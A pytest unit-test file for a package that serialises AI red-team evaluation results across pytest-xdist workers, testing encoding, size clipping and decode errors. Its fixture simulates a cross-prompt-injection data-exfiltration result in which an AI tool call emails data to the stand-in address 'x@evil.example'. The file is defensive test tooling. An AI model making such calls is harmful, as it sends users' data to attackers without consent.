"""Unit tests of the wire schema, the codec and the size budget (R-XD-4 .. R-XD-8)."""

from __future__ import annotations

import datetime
import json
from pathlib import Path
from typing import Any

import msgspec

import pytest
import rampart_xdist
from rampart.core.result import HarmCategory, InjectionRecord, Result, SafetyStatus
from rampart.core.types import (
    EvalOutcome,
    EvalResult,
    ObservabilityLevel,
    Payload,
    PayloadFormat,
    Request,
    Response,
    SideEffect,
    ToolCall,
    Turn,
)
from rampart_xdist import (
    MAX_METADATA_DEPTH,
    STUB_MAX_BYTES,
    SchemaVersionError,
    SizeLimitError,
    WorkerOutputError,
    decode_record,
    encode_record,
    record_to_results,
)
from rampart_xdist._codec import encode_record_info
from rampart_xdist.budget import CLIP_SIZES, clip_text
from rampart_xdist.wire import NegoFail, RecordV1

pytestmark = pytest.mark.xdist

TRANSPORT_KEYS = ("_pytest_test_name", "_pytest_nodeid", "_rampart_result_index")


def make_result(
    *, size: int = 100, turns: int = 3, status: SafetyStatus = SafetyStatus.UNSAFE
) -> Result:
    made = [
        Turn(
            request=Request(prompt="p" * size),
            response=Response(
                text=f"reply {n} " + "r" * size,
                tool_calls=[
                    ToolCall(
                        name="send_email",
                        arguments={"to": "x@evil.example", "cc": [1, 2.5, None, {"k": True}]},
                        result="sent",
                        timestamp=datetime.datetime(2025, 1, 2, 3, 4, 5, 6),
                    )
                ],
                side_effects=[SideEffect(kind="email", details={"to": "x@evil.example"})],
                metadata={"latency_ms": 12.5},
            ),
            eval_result=EvalResult(
                outcome=EvalOutcome.DETECTED,
                confidence=0.75,
                evidence=["found it", "e" * size],
                rationale="because " + "w" * size,
            ),
            turn_number=n,
            timestamp=datetime.datetime(2025, 1, 2, tzinfo=datetime.UTC),
            driver_reasoning="d" * size,
        )
        for n in range(turns)
    ]
    return Result(
        status=status,
        summary="s" * size,
        turns=made,
        duration_seconds=1.5,
        harm_category=HarmCategory.DATA_EXFILTRATION,
        strategy="xpia",
        observability_level=ObservabilityLevel.TOOL_ONLY,
        injections=[InjectionRecord(payload_id="abc", surface_name="inbox")],
        metadata={"custom": {"nested": [1, "two"]}, "_rampart_harm_categories": ["x"]},
    )


def encode_as(results: list[Result], binary: bool, **kwargs: Any) -> str | bytes:
    """A record as JSON text (the public ``encode_record``), or as the MessagePack bytes the
    transport sends."""
    fields: dict[str, Any] = {
        "nodeid": "t.py::test_x",
        "results": results,
        "trial": None,
        "seq": 0,
        "run_nonce": "nonce",
        "worker": "gw0",
    }
    fields.update(kwargs)
    if not binary:
        return encode_record(**fields)
    data, _ = encode_record_info(**fields, binary=True)
    # MessagePack at every stage of the size budget too, not JSON that happens to be bytes.
    assert is_msgpack(data)
    return data


MAP_HEADERS = frozenset({*range(0x80, 0x90), 0xDE, 0xDF})


def is_msgpack(data: str | bytes) -> bool:
    """A MessagePack map header first: never a byte that could open JSON text."""
    return isinstance(data, bytes) and data[0] in MAP_HEADERS


def encode(results: list[Result], **kwargs: Any) -> str:
    text = encode_as(results, False, **kwargs)
    assert isinstance(text, str)
    return text


def encode_binary(results: list[Result], **kwargs: Any) -> bytes:
    data = encode_as(results, True, **kwargs)
    assert isinstance(data, bytes)
    return data


def size_of(data: str | bytes) -> int:
    return len(data if isinstance(data, bytes) else data.encode("utf-8"))


BOTH = pytest.mark.parametrize("binary", [False, True], ids=["json", "msgpack"])


def roundtrip(results: list[Result], **kwargs: Any) -> list[Result]:
    record = decode_record(data=encode(results, **kwargs))
    assert isinstance(record, RecordV1)
    return record_to_results(record=record)


def test_public_names_match_api_md() -> None:
    assert sorted(rampart_xdist.__all__) == sorted(
        [
            "ACCEPTED_SCHEMAS",
            "DEFAULT_SIZE_LIMIT_BYTES",
            "MAX_METADATA_DEPTH",
            "NEGO_FAIL_TAG",
            "REPORT_ATTRIBUTE",
            "SCHEMA_VERSION",
            "SIZE_LIMIT_OPTION",
            "STUB_MAX_BYTES",
            "WORKERINPUT_KEY",
            "WORKEROUTPUT_KEY",
            "SchemaVersionError",
            "SizeLimitError",
            "WorkerOutputError",
            "decode_record",
            "deserialize_trial_specs",
            "deserialize_worker_data",
            "discover_sinks_from_conftest",
            "encode_record",
            "finalize_worker",
            "get_dist_mode",
            "get_worker_count",
            "handle_testnodedown",
            "is_xdist_controller",
            "is_xdist_worker",
            "record_to_results",
            "serialize_worker_data",
        ]
    )
    for name in rampart_xdist.__all__:
        assert getattr(rampart_xdist, name) is not None
    assert rampart_xdist.SCHEMA_VERSION == "rampart.xdist.v1"
    assert rampart_xdist.ACCEPTED_SCHEMAS == ("rampart.xdist.v1",)
    assert rampart_xdist.NEGO_FAIL_TAG == "rampart.xdist.nego-fail"
    assert rampart_xdist.WORKEROUTPUT_KEY == "rampart_xdist_v1"
    assert rampart_xdist.WORKERINPUT_KEY == "rampart_xdist"
    assert rampart_xdist.REPORT_ATTRIBUTE == "rampart_xdist"
    assert rampart_xdist.SIZE_LIMIT_OPTION == "rampart_xdist_max_bytes"
    assert rampart_xdist.DEFAULT_SIZE_LIMIT_BYTES == 16 * 1024 * 1024
    assert STUB_MAX_BYTES == 4 * 1024 * 1024
    assert MAX_METADATA_DEPTH == 16
    assert issubclass(SchemaVersionError, WorkerOutputError)
    assert issubclass(SizeLimitError, WorkerOutputError)
    from rampart_pytest import is_xdist_worker

    assert rampart_xdist.is_xdist_worker is is_xdist_worker


def test_round_trip_keeps_every_field_R_XD_4_R_XD_7() -> None:
    originals = [make_result(), make_result(status=SafetyStatus.SAFE, turns=0)]
    back = roundtrip(
        originals, trial={"base_nodeid": "t.py::x", "index": 1, "n": 3, "threshold": 0.5}
    )
    for index, (original, rebuilt) in enumerate(zip(originals, back, strict=True)):
        tags = {key: rebuilt.metadata.pop(key) for key in TRANSPORT_KEYS}
        assert tags == {
            "_pytest_test_name": "test_x",
            "_pytest_nodeid": "t.py::test_x",
            "_rampart_result_index": index,
        }
        assert rebuilt.metadata.pop("_rampart_source_worker") == "gw0"
        assert rebuilt.metadata.pop("_rampart_trial") == {
            "base_nodeid": "t.py::x",
            "index": 1,
            "n": 3,
            "threshold": 0.5,
        }
        assert rebuilt == original
        assert type(rebuilt.status) is SafetyStatus
        assert rebuilt.harm_category is HarmCategory.DATA_EXFILTRATION


def test_rebuild_of_attachments_and_empty_requests_R_XD_7(tmp_path: Path) -> None:
    artifact = tmp_path / "doc.pdf"
    artifact.write_bytes(b"%PDF")
    payload = Payload(content="hidden", id="p1", format=PayloadFormat.PDF, artifact=artifact)
    turn = Turn(request=Request(attachments=[payload]), response=Response(text="ok"))
    result = Result(status=SafetyStatus.SAFE, summary="fine", turns=[turn])
    (rebuilt,) = roundtrip([result], nodeid="t.py::test_g[1]@group_a")
    (attachment,) = rebuilt.turns[0].request.attachments
    assert attachment.format is PayloadFormat.TEXT
    assert attachment.artifact is None
    assert attachment.content == "hidden"
    assert attachment.metadata["_rampart_worker_format"] == "pdf"
    assert attachment.metadata["_rampart_worker_artifact_path"] == str(artifact)
    # loadgroup's suffix never reaches the session.
    assert rebuilt.metadata["_pytest_nodeid"] == "t.py::test_g[1]"
    assert rebuilt.metadata["_pytest_test_name"] == "test_g[1]"


def test_metadata_travels_as_to_json_safe_R_JSON_4() -> None:
    metadata = {
        "tuple": (1, 2),
        "set": {3, 1, 2},
        "enum": SafetyStatus.SAFE,
        "when": datetime.datetime(2024, 5, 6, 7, 8, 9),
        "path": Path("a/b"),
        "nan": float("nan"),
        "obj": ValueError("boom"),
    }
    (rebuilt,) = roundtrip([Result(status=SafetyStatus.SAFE, summary="x", metadata=metadata)])
    assert rebuilt.metadata["tuple"] == [1, 2]
    assert rebuilt.metadata["set"] == [1, 2, 3]
    assert rebuilt.metadata["enum"] == "safe"
    assert rebuilt.metadata["when"] == "2024-05-06T07:08:09"
    assert rebuilt.metadata["path"] == str(Path("a/b"))
    assert rebuilt.metadata["nan"] is None
    assert isinstance(rebuilt.metadata["obj"], str)


def test_lone_surrogates_become_replacement_characters_R_XD_8() -> None:
    result = Result(
        status=SafetyStatus.UNSAFE,
        summary="a\ud800b \x1b[31mred\x1b[0m",
        metadata={"k\udc00": "v\ud800"},
        turns=[Turn(request=Request(prompt="\udfff"), response=Response(text="ok\r\n"))],
    )
    text = encode([result], nodeid="t.py::test_\ud800")
    text.encode("utf-8")  # valid UTF-8: execnet can always carry it
    (rebuilt,) = roundtrip([result], nodeid="t.py::test_\ud800")
    # Nothing else changes: ANSI and CR are kept exactly, only surrogates are replaced.
    assert rebuilt.summary == "a\ufffdb \x1b[31mred\x1b[0m"
    assert rebuilt.metadata["k\ufffd"] == "v\ufffd"
    assert rebuilt.turns[0].request.prompt == "\ufffd"
    assert rebuilt.turns[0].response.text == "ok\r\n"
    assert rebuilt.metadata["_pytest_nodeid"] == "t.py::test_\ufffd"


def test_deep_metadata_is_bounded_on_both_sides_R_XD_4() -> None:
    deep: dict[str, Any] = {}
    node = deep
    for _ in range(40):
        node["d"] = {}
        node = node["d"]
    (rebuilt,) = roundtrip([Result(status=SafetyStatus.SAFE, summary="x", metadata=deep)])
    depth, value = 0, rebuilt.metadata["d"]
    while isinstance(value, dict):
        depth, value = depth + 1, value["d"]
    assert depth <= MAX_METADATA_DEPTH
    # A hand-made record with deeper opaque JSON is rejected.
    too_deep = "[" * 40 + "]" * 40
    record = json.loads(encode([Result(status=SafetyStatus.SAFE, summary="x")]))
    record["results"][0]["metadata"] = {"x": json.loads(too_deep)}
    with pytest.raises(WorkerOutputError, match=r"results\[0\]\.metadata: nested deeper than 16"):
        decode_record(data=json.dumps(record))


@pytest.mark.parametrize("field", ["metadata", "arguments", "details", "response_metadata"])
def test_opaque_depth_limit_is_exact_R_XD_4(field: str) -> None:
    """Containers may sit MAX_METADATA_DEPTH levels below the mapping, and not one more."""

    def nested(levels: int) -> dict[str, Any]:
        value: dict[str, Any] = {}
        for _ in range(levels):
            value = {"d": value}
        return value

    result = Result(
        status=SafetyStatus.SAFE,
        summary="x",
        turns=[
            Turn(
                request=Request(prompt="p"),
                response=Response(
                    text="r",
                    tool_calls=[ToolCall(name="t", arguments={"a": 1})],
                    side_effects=[SideEffect(kind="k", details={"a": 1})],
                    metadata={"a": 1},
                ),
            )
        ],
    )
    record = json.loads(encode([result]))
    owner = record["results"][0]
    turn = owner["turns"][0]
    target = {
        "metadata": owner,
        "response_metadata": turn,
        "arguments": turn["tool_calls"][0],
        "details": turn["side_effects"][0],
    }[field]
    target[field] = nested(MAX_METADATA_DEPTH)
    decoded = decode_record(data=json.dumps(record))
    assert isinstance(decoded, RecordV1)
    target[field] = nested(MAX_METADATA_DEPTH + 1)
    with pytest.raises(WorkerOutputError, match=f"{field}: nested deeper than 16"):
        decode_record(data=json.dumps(record))


def test_rebuilt_results_never_share_a_mapping_with_the_record_R_XD_7() -> None:
    """record_to_results copies the record's opaque mappings; tagging one result leaves
    the record and any other rebuild of it untouched."""
    result = Result(status=SafetyStatus.SAFE, summary="x", metadata={"k": [1, {"v": 2}]})
    record = decode_record(data=encode([result]))
    assert isinstance(record, RecordV1)
    first, second = record_to_results(record=record)[0], record_to_results(record=record)[0]
    first.metadata["k"][1]["v"] = 99
    assert second.metadata["k"] == [1, {"v": 2}]
    assert record.results[0].metadata == {"k": [1, {"v": 2}]}


def test_clip_text_marks_the_cut() -> None:
    assert clip_text("abc", 3) == "abc"
    assert clip_text("abcdef", 2) == "ab…[truncated 4 chars]"


@BOTH
def test_over_cap_clips_free_text_first_R_XD_5(binary: bool) -> None:
    result = make_result(size=200_000, turns=2)
    data = encode_as([result], binary, max_bytes=64 * 1024)
    assert size_of(data) <= 64 * 1024
    record = decode_record(data=data)
    assert isinstance(record, RecordV1)
    paths = {cut.path: cut.original_len for cut in record.truncated}
    assert paths["results[0].summary"] == 200_000
    assert paths["results[0].turns[1].response_text"] == len("reply 1 ") + 200_000
    assert "results[0].turns[0].eval.evidence[1]" in paths
    (rebuilt,) = record_to_results(record=record)
    assert rebuilt.status is SafetyStatus.UNSAFE
    assert len(rebuilt.turns) == 2
    assert rebuilt.summary.endswith("chars]")
    limit = next(size for size in CLIP_SIZES if rebuilt.summary.startswith("s" * size))
    assert rebuilt.summary == clip_text("s" * 200_000, limit)
    # The largest clip size that fits: the next larger one would not have.
    larger = CLIP_SIZES[CLIP_SIZES.index(limit) - 1]
    assert size_of(encode_as([make_result(size=larger, turns=2)], binary)) > 64 * 1024
    assert {"path": "results[0].summary", "original_len": 200_000} in rebuilt.metadata[
        "_rampart_truncated"
    ]


@BOTH
def test_large_opaque_json_is_replaced_by_its_length_R_XD_5(binary: bool) -> None:
    result = Result(status=SafetyStatus.SAFE, summary="x", metadata={"blob": "b" * 100_000})
    data = encode_as([result], binary, max_bytes=20_000)
    assert size_of(data) <= 20_000
    record = decode_record(data=data)
    assert isinstance(record, RecordV1)
    (rebuilt,) = record_to_results(record=record)
    original = len(json.dumps({"blob": "b" * 100_000}, separators=(",", ":")))
    assert rebuilt.metadata["_rampart_truncated"] == [
        {"path": "results[0].metadata", "original_len": original}
    ]
    assert rebuilt.metadata["_pytest_nodeid"] == "t.py::test_x"


@BOTH
def test_middle_turns_then_stub_R_XD_5(binary: bool) -> None:
    many_turns = make_result(size=300, turns=40)
    record = decode_record(data=encode_as([many_turns], binary, max_bytes=6_000))
    assert isinstance(record, RecordV1)
    (wire,) = record.results
    assert wire.turns_dropped == 38
    assert [t.turn_number for t in wire.turns] == [0, 39]
    assert record.original_bytes is None

    results = [make_result(size=300, turns=40) for _ in range(20)]
    data = encode_as(results, binary, max_bytes=2_000)
    record = decode_record(data=data, max_bytes=STUB_MAX_BYTES)
    assert isinstance(record, RecordV1)
    assert record.original_bytes is not None
    assert record.original_bytes > 100_000
    assert [r.status for r in record.results] == ["unsafe"] * 20
    assert all(r.turns == () and len(r.summary) <= 120 for r in record.results)
    assert all(r.harm_category == "data_exfiltration" for r in record.results)
    rebuilt = record_to_results(record=record)
    assert [r.status for r in rebuilt] == [SafetyStatus.UNSAFE] * 20
    assert all(r.metadata["_rampart_truncated"] for r in rebuilt)


def test_identifiers_and_lists_are_clipped_not_rejected_R_XD_5() -> None:
    result = Result(status=SafetyStatus.ERROR, summary="x", strategy="s" * 5000)
    record = decode_record(data=encode([result], nodeid="t.py::" + "n" * 70_000))
    assert isinstance(record, RecordV1)
    assert len(record.nodeid) <= 65_536
    assert len(record.results[0].strategy) <= 4096
    assert {c.path for c in record.truncated} == {"nodeid", "results[0].strategy"}


def test_encode_failure_gives_an_error_record() -> None:
    result = Result(status=SafetyStatus.SAFE, summary="x")
    result.turns = ["not a turn"]  # type: ignore[list-item]
    record = decode_record(data=encode([result]))
    assert isinstance(record, RecordV1)
    assert record.results == ()
    assert record.encode_error is not None
    assert "AttributeError" in record.encode_error


def test_decode_errors_are_typed_R_XD_6() -> None:
    good = encode([make_result()])
    with pytest.raises(SizeLimitError):
        decode_record(data=good, max_bytes=100)
    with pytest.raises(SchemaVersionError, match=r"rampart\.xdist\.v9"):
        decode_record(data=good.replace("rampart.xdist.v1", "rampart.xdist.v9"))
    with pytest.raises(SchemaVersionError):
        decode_record(data=json.dumps({"run_nonce": "x"}))
    with pytest.raises(SchemaVersionError):
        decode_record(data=good, accept=("rampart.xdist.v2",))
    with pytest.raises(WorkerOutputError, match="unknown field"):
        decode_record(data=good.replace('"run_nonce"', '"extra":1,"run_nonce"'))
    with pytest.raises(WorkerOutputError):
        decode_record(data=good.replace('"status":"unsafe"', '"status":"UNSAFE"'))
    with pytest.raises(WorkerOutputError):
        decode_record(data=good.replace('"confidence":0.75', '"confidence":1.5'))
    with pytest.raises(WorkerOutputError):
        decode_record(data=good.replace('"duration_seconds":1.5', '"duration_seconds":1e999'))
    with pytest.raises(WorkerOutputError):
        decode_record(data=good[:-5])
    with pytest.raises(WorkerOutputError):
        decode_record(data=42)  # type: ignore[arg-type]
    stub = msgspec.json.encode(
        NegoFail(worker="gw0", package_version="9.9", supported=("x",), offered=("y",))
    )
    assert isinstance(decode_record(data=stub), NegoFail)


def test_whole_session_helpers_round_trip() -> None:
    from rampart_pytest import RampartSession, TrialSpec

    session = RampartSession()
    session.merge_worker_results(results_by_nodeid={"t.py::test_a": [make_result()]})
    session.register_trial_spec(
        clone_nodeid="t.py::test_a", base_nodeid="t.py::a", threshold=0.5, n=2, index=1
    )
    data = rampart_xdist.serialize_worker_data(session=session)
    assert data["schema"] == "rampart.xdist.v1"
    assert set(data) == {"schema", "package_version", "results_by_nodeid", "trial_specs"}
    json.dumps(data)
    (rebuilt,) = rampart_xdist.deserialize_worker_data(data=data)["t.py::test_a"]
    assert rebuilt.metadata["_pytest_nodeid"] == "t.py::test_a"
    assert rebuilt.metadata["_rampart_result_index"] == 0
    assert rebuilt.turns == make_result().turns
    assert rampart_xdist.deserialize_trial_specs(data=data) == {
        "t.py::test_a": TrialSpec(base_nodeid="t.py::a", threshold=0.5, n=2, index=1)
    }
    with pytest.raises(SchemaVersionError):
        rampart_xdist.deserialize_worker_data(data={**data, "schema": "other"})
    with pytest.raises(WorkerOutputError):
        rampart_xdist.deserialize_worker_data(
            data={**data, "results_by_nodeid": {"x": [{"index": 0}]}}
        )


def test_whole_session_helpers_copy_what_they_rebuild() -> None:
    """deserialize_worker_data never hands out the caller's containers, even ones that
    cannot be encoded (a lone surrogate in data passed in memory)."""
    deep: dict[str, Any] = {"k": "lone \ud800"}
    for _ in range(8):
        deep = {"d": deep}
    data = {
        "schema": "rampart.xdist.v1",
        "results_by_nodeid": {
            "t.py::test_a": [{"index": 0, "status": "safe", "metadata": {"m": [deep]}}]
        },
    }
    (rebuilt,) = rampart_xdist.deserialize_worker_data(data=data)["t.py::test_a"]
    assert rebuilt.metadata["m"] == [deep]
    assert rebuilt.metadata["m"][0] is not deep
    rebuilt.metadata["m"][0]["d"]["changed"] = True
    assert "changed" not in deep["d"]


def test_opaque_type_stays_small_R_XD_4() -> None:
    """Each typed level of OpaqueJson refers to the next twice, so the type (and the time to
    build a decoder for it at import, on every worker) doubles per level; deeper levels are
    left to check_deep_json."""
    from rampart_xdist import wire

    assert len(repr(wire.OpaqueJson)) < 20_000
    deep = {"d": {"d": {"d": {"d": {"d": {"d": [[{"x": 1}]]}}}}}}
    assert (
        msgspec.json.decode(
            msgspec.json.encode(deep), type=wire.OpaqueJson, dec_hook=wire.check_deep_json
        )
        == deep
    )


# --- MessagePack, the encoding the transport sends (docs/decisions.md) ------------------------


def test_transport_encoding_carries_the_same_record_R_XD_4() -> None:
    originals = [make_result(), make_result(status=SafetyStatus.SAFE, turns=0)]
    trial = {"base_nodeid": "t.py::x", "index": 1, "n": 2, "threshold": 0.5}
    binary = encode_binary(originals, trial=trial)
    assert is_msgpack(binary)
    from_binary = decode_record(data=binary)
    text = encode_as(originals, False, trial=trial)
    assert isinstance(text, str)
    assert from_binary == decode_record(data=text)
    assert isinstance(from_binary, RecordV1)
    # JSON bytes, even after whitespace, still decode as JSON.
    assert decode_record(data=b" \n" + text.encode()) == from_binary
    for original, rebuilt in zip(originals, record_to_results(record=from_binary), strict=True):
        for key in (*TRANSPORT_KEYS, "_rampart_source_worker", "_rampart_trial"):
            rebuilt.metadata.pop(key)
        assert rebuilt == original


def test_integers_beyond_64_bits_go_as_json_text_R_JSON_7() -> None:
    """MessagePack has no such integers: the record goes as JSON, the numbers unchanged."""
    metadata = {"big": 2**70, "low": -(2**63) - 1, "list": [2**64]}
    data, outcome = encode_record_info(
        nodeid="t.py::test_x",
        results=[Result(status=SafetyStatus.UNSAFE, summary="x\ud800", metadata=metadata)],
        trial=None,
        seq=0,
        run_nonce="nonce",
        worker="gw0",
        binary=True,
    )
    assert isinstance(data, str)
    assert outcome == "ok"
    record = decode_record(data=data)
    assert isinstance(record, RecordV1)
    (rebuilt,) = record_to_results(record=record)
    assert {k: rebuilt.metadata[k] for k in metadata} == metadata
    assert rebuilt.summary == "x\ufffd"
    assert rebuilt.status is SafetyStatus.UNSAFE


def test_lone_surrogates_are_repaired_in_msgpack_too_R_XD_8() -> None:
    result = Result(status=SafetyStatus.UNSAFE, summary="a\ud800b", metadata={"k\udc00": "v"})
    record = decode_record(data=encode_binary([result]))
    assert isinstance(record, RecordV1)
    (rebuilt,) = record_to_results(record=record)
    assert rebuilt.summary == "a\ufffdb"
    assert rebuilt.metadata["k\ufffd"] == "v"


NOT_JSON: dict[str, object] = {
    "bytes": b"x",
    "ext": msgspec.msgpack.Ext(1, b"x"),
    "timestamp": datetime.datetime(2025, 1, 1, tzinfo=datetime.UTC),
    "int key": {1: "x"},
    "bytes key": {b"k": "x"},
    "array key": {(1, 2): "x"},
}


@pytest.mark.parametrize("kind", sorted(NOT_JSON))
def test_values_json_has_no_form_for_are_refused_at_every_depth_R_XD_6(kind: str) -> None:
    """The opaque mappings hold JSON in either encoding: at every depth, typed or left to the
    decoder's hook, MessagePack's extra kinds of value and key are refused, naming the field."""
    record = msgspec.msgpack.decode(encode_binary([make_result(turns=1)]))
    for depth in range(MAX_METADATA_DEPTH - 1):
        value: Any = [NOT_JSON[kind]]
        for _ in range(depth):
            value = {"d": value}
        record["results"][0]["turns"][0]["tool_calls"][0]["arguments"] = value
        with pytest.raises(WorkerOutputError) as caught:
            decode_record(data=msgspec.msgpack.encode(record))
        message = str(caught.value)
        assert "turns[0].tool_calls[0].arguments" in message
        assert "deeper" not in message


def test_msgpack_decode_errors_are_typed_R_XD_6() -> None:
    good = encode_binary([make_result()])
    record = msgspec.msgpack.decode(good)
    with pytest.raises(SizeLimitError):
        decode_record(data=good, max_bytes=100)
    with pytest.raises(SchemaVersionError, match=r"rampart\.xdist\.v9"):
        decode_record(data=msgspec.msgpack.encode({**record, "schema": "rampart.xdist.v9"}))
    with pytest.raises(SchemaVersionError, match="no schema tag"):
        decode_record(data=msgspec.msgpack.encode({"run_nonce": "x"}))
    with pytest.raises(WorkerOutputError, match="unknown field"):
        decode_record(data=msgspec.msgpack.encode({**record, "extra": 1}))
    with pytest.raises(WorkerOutputError, match="malformed"):
        decode_record(data=good[:-5])
    with pytest.raises(WorkerOutputError):
        decode_record(data=b"\xc1")  # a byte MessagePack never uses
    stub = msgspec.msgpack.encode(
        NegoFail(worker="gw0", package_version="9.9", supported=("x",), offered=("y",))
    )
    assert isinstance(decode_record(data=stub), NegoFail)


@BOTH
@pytest.mark.parametrize("turns", [0, 3])
def test_the_largest_clip_that_fits_is_chosen_at_the_edge_R_XD_5(binary: bool, turns: int) -> None:
    """A record that fits with no byte to spare at one clip size gets that size, not the next
    smaller one (the stage estimates sizes before it encodes, and must not skip on an estimate)."""
    results = [make_result(size=70_000, turns=turns)]
    first = encode_as(results, binary, max_bytes=400_000)
    exact = size_of(first)
    assert encode_as(results, binary, max_bytes=exact) == first
    tighter = encode_as(results, binary, max_bytes=exact - 1)
    assert size_of(tighter) < exact - 1000  # a smaller clip size, not a byte trimmed off


ROOT = "\x81\xa6schema"  # a MessagePack map of one entry, keyed "schema"


def test_malformed_bytes_never_escape_the_decoder_R_XD_6() -> None:
    good = encode_binary([make_result(turns=1)])
    summary = good.index(b"s" * 100)
    bad_utf8 = [
        good[:summary] + b"\xff\xfe" + good[summary + 2 :],  # in a typed string
        good[:summary] + b"\xed\xa0\x80" + good[summary + 3 :],  # an encoded lone surrogate
        ROOT.encode("latin-1") + b"\xa2\xff\xfe",  # in the schema tag itself
    ]
    metadata = good.index(b"nested")
    bad_utf8.append(good[:metadata] + b"\xff" + good[metadata + 1 :])  # in an opaque key
    for data in bad_utf8:
        with pytest.raises(WorkerOutputError, match="malformed"):
            decode_record(data=data)
    # Deep nesting past the schema, which the tag probe also reads.
    deep_binary = ROOT.encode("latin-1") + b"\x91" * 1000 + b"\xc0"
    deep_json = '{"schema":"x","z":' + "[" * 1000 + "]" * 1000 + "}"
    for deep in (deep_binary, deep_json, deep_json.encode()):
        with pytest.raises(WorkerOutputError):
            decode_record(data=deep)


@BOTH
def test_timestamps_keep_their_utc_offset_R_JSON_7(binary: bool) -> None:
    """MessagePack would carry an aware datetime as a UTC instant; the report of an xdist run
    must show the same time as a serial run's."""
    india = datetime.timezone(datetime.timedelta(hours=5, minutes=30))
    when = datetime.datetime(2025, 1, 2, 12, 0, 0, 123456, tzinfo=india)
    turn = Turn(
        request=Request(prompt="p"),
        response=Response(text="r", tool_calls=[ToolCall(name="t", timestamp=when)]),
        timestamp=when,
    )
    results = [Result(status=SafetyStatus.SAFE, summary="x", turns=[turn])]
    record = decode_record(data=encode_as(results, binary))
    assert isinstance(record, RecordV1)
    (rebuilt,) = record_to_results(record=record)
    for stamp in (rebuilt.turns[0].timestamp, rebuilt.turns[0].response.tool_calls[0].timestamp):
        assert stamp is not None
        assert stamp.isoformat() == when.isoformat()
